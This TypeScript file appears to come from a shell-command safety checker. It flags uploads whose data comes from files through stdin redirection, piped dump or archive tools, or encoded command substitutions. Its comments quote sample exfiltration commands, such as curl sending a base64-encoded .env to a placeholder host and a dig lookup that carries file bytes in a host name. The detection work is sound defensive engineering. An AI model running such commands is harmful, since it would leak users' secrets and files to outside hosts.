// Where the data an upload sends comes from: a file on stdin, a stage that prints files, or a substitution that
// prints them inside an argument (used by danger-upload.ts and danger-upload-copies.ts).
import type { CommandView } from '../shell/view.ts';

/** Upstream stages whose output is a file's or a database's content (`cat dump.sql | mail …`, `pg_dump db | mail …`). */
export const FILE_SENDERS = new Set([
  'cat',
  'tar',
  'gzip',
  'zip',
  'base64',
  'uuencode',
  'pg_dump',
  'mysqldump',
  'sqlite3',
  'mongodump',
  'xz',
  'bzip2',
  'zstd',
  'pigz',
  'cpio',
  'git',
  'head',
  'tail',
  'jq',
  'xxd',
  'od',
]);

/** A `< file` redirection (not `< /dev/null`, the usual way to give a command no input). */
export function readsFileOnStdin(v: CommandView): boolean {
  return v.redirects.some((r) => !r.write && r.op === '<' && r.target !== undefined && r.target.value !== '/dev/null');
}

/** Standard input is a file (`< data.json`) or a stage that prints files (`cat main.py | …`, `tar c . | …`). */
export function fedFromFile(v: CommandView): boolean {
  return readsFileOnStdin(v) || (v.stdin?.kind === 'pipe' && v.stdin.upstream.some((p) => FILE_SENDERS.has(p)));
}

/** The argument at `i` holds the output of a substitution that prints files (`-d "$(cat main.py)"`, `--raw "$(base64 x)"`). */
export function readsFileInWord(v: CommandView, i: number): boolean {
  return v.words[i + 1]?.inner?.programs.some((p) => FILE_SENDERS.has(p)) === true;
}

/**
 * Encoders in a substitution, for words that are not a body (`curl "https://x/?d=$(base64 -w0 f)"`): a file's bytes
 * made fit for a URL or a host name. A plain `$(cat VERSION)` in a URL (`…/v$(cat .nvmrc)/node.tgz`) picks a version.
 */
const CONTENT_PRINTERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 'tar', 'gzip', 'zip']);
/**
 * A word of the command carries a file's contents to the host it names: in a URL or a query (`curl
 * "https://x/?d=$(base64 -w0 .env)"`), a host name looked up (`dig $(base64 f | head -c 60).x.example`). Header values
 * are skipped: `-H "Authorization: token $(cat token.txt)"` is how a token is used.
 */
export function fileInWords(v: CommandView): boolean {
  return v.args.some(
    (a, i) =>
      !/^(-H|--header)$/.test(v.args[i - 1] ?? '') &&
      v.words[i + 1]?.inner?.programs.some((p) => CONTENT_PRINTERS.has(p)) === true,
  );
}
